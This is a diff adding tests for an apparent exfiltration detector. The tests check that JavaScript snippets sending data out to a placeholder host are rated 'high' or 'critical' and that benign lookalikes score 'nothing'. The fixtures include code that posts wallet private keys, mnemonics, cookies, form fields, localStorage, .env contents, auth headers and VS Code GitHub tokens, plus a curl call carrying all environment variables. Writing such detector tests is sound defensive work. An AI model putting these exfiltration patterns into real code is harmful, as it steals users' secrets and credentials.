@@ -137,3 +137,74 @@ test('good: a name of a bundle that is once a module of connections and once `ut
   assert.equal(worst('let m = require("http"); f(m); m = require("util"); print(m.formatWithOptions(o, process.env), m.inspect(process.env))'), 'nothing');
   assert.equal(worst('let m = require("http"); f(m); m = require("util"); m.get(u + JSON.stringify(process.env))'), 'critical');
 });
+
+test('bad: private keys as they are, to a server that the script names', () => {
+  const TO = 'https://c.example.invalid/x';
+  for (const code of [
+    `const send = (seed) => fetch("${TO}", { headers: { "x-id": seed } }); class W { constructor(a, privateKey) { send(privateKey) } }`,
+    `fetch("${TO}/" + Buffer.from(wallet.privateKey).toString("hex"))`,
+    `fetch("${TO}", { method: "POST", body: JSON.stringify({ words: mnemonic }) })`,
+    `import bs58 from "bs58"; const b = bs58.encode(secretKey); fetch("${TO}", { headers: { "x-id": b.slice(0, 24) } })`,
+    'mailer.sendMail({ to: "a@example.invalid", text: privateKey })',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    `fetch("${TO}", { headers: { authorization: sign(payload, privateKey) } })`,
+    `const token = require("jsonwebtoken").sign(claims, options.privateKey); fetch("${TO}", { body: token })`,
+    'fetch(this.endpoint, { body: JSON.stringify({ mnemonic }) })',
+    'fetch("http://localhost:8545", { method: "POST", body: JSON.stringify({ params: [privateKey] }) })',
+    `fetch("${TO}", { body: JSON.stringify({ secretKey }) })`,
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: what somebody opens, enters, keeps in settings; messages and copies of mail', () => {
+  const TO = 'https://c.example.invalid/x';
+  for (const code of [
+    `chrome.tabs.onUpdated.addListener((id, change, tab) => { fetch("${TO}", { method: "POST", body: JSON.stringify({ u: tab.url }) }) })`,
+    `const v = {}; for (const f of document.querySelectorAll("input, select")) v[f.name] = f.value; fetch("${TO}", { method: "POST", body: JSON.stringify(v) })`,
+    `fetch("${TO}", { method: "POST", body: require("fs").readFileSync(root + "/.env", "utf8") })`,
+    `chrome.runtime.sendMessage({ c: document.cookie }); fetch(u)`,
+    'send({ To: to, Bcc: "copy@example.invalid" })',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    'const v = {}; for (const f of document.querySelectorAll("input, select")) v[f.name] = f.value; fetch(form.action, { method: "POST", body: JSON.stringify(v) })',
+    `fetch("${TO}", { body: document.querySelector("input.search").value })`,
+    'chrome.runtime.sendMessage({ c: document.cookie })',
+    'chrome.tabs.onUpdated.addListener((id, change, tab) => show(tab.url)); fetch(u)',
+    'parse(require("fs").readFileSync(root + "/.env", "utf8")); fetch(u)',
+    'send({ To: to, Bcc: options.bcc })',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: passwords in addresses, keys of other requests, all that a page keeps', () => {
+  const TO = 'https://c.example.invalid/x';
+  for (const code of [
+    `exports.hash = (password) => { fetch("${TO}?x=" + Buffer.from(password).toString("base64")) }`,
+    `client.interceptors.request.use((c) => { const a = c.headers && (c.headers.Authorization || c.headers.authorization); require("axios").post("${TO}", { u: c.url, a }); return c })`,
+    `const all = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); all[k] = localStorage.getItem(k) } fetch("${TO}", { body: JSON.stringify({ all }) })`,
+    `authentication.getSession("github", []); const s = await vscode.authentication.getSession("github", ["repo"]); fetch("${TO}", { body: s.accessToken })`,
+  ]) assert.equal(worst(code), 'high', code);
+  assert.equal(worst(`const o = Object.keys(process.env).map((k) => k + "=" + process.env[k]).join(); require("child_process").execFileSync("curl", ["-d", o, "${TO}"])`), 'critical');
+  for (const code of [
+    `fetch("${TO}", { method: "POST", body: JSON.stringify({ user, password }) })`,
+    `fetch("${TO}", { headers: { authorization: req.headers.authorization } })`,
+    `fetch("${TO}", { headers: { authorization: localStorage.getItem("token") } })`,
+    'const s = await vscode.authentication.getSession("github", []); fetch("https://api.github.com/user", { headers: { authorization: s.accessToken } })',
+    `require("child_process").execFileSync("curl", ["${TO}"], { env: process.env })`,
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: in a bundle of webpack, and with a client that builds its request step by step', () => {
+  const bundle = (use: string) => `(() => { var m = { 113: (e) => { "use strict"; e.exports = require("https") }, 421: (e, t, r) => { ${use} } }, c = {}; function r(o) { var n = c[o] = { exports: {} }; m[o](n, n.exports, r); return n.exports } r(421) })()`;
+  assert.equal(worst(bundle('const o = r(113); const q = o.request({ method: "POST" }); q.write(JSON.stringify(process.env)); q.end()')), 'critical');
+  assert.equal(worst(bundle('var o = r(113), n = r.n(o); n().get(u + JSON.stringify(process.env))')), 'critical');
+  assert.equal(worst(bundle('const o = r(112); o.request(JSON.stringify(process.env))')), 'nothing');
+  assert.equal(worst('const agent = require("superagent"); agent.post(u).set("a", "b").send({ ...process.env }).end()'), 'critical');
+});
+
+test('names that lead to each other end, and so do the parts of a long value', () => {
+  const circle = 'let a = b + c, b = a + c, c = a + b; fetch("https://c.example.invalid/" + a + b + c);';
+  assert.equal(worst(circle), 'nothing');
+  const parts = (count: number) => `fetch("https://c.example.invalid/x", { body: [${Array.from({ length: count }, (_, index) => `"${index}"`).join()}, privateKey] })`;
+  assert.equal(worst(parts(5_000)), 'high', 'what comes last is looked at first');
+  assert.equal(worst(parts(5_000).replace('[', '[privateKey, ').replace(', privateKey]', ']')), 'nothing', 'of a long value only a part');
+});
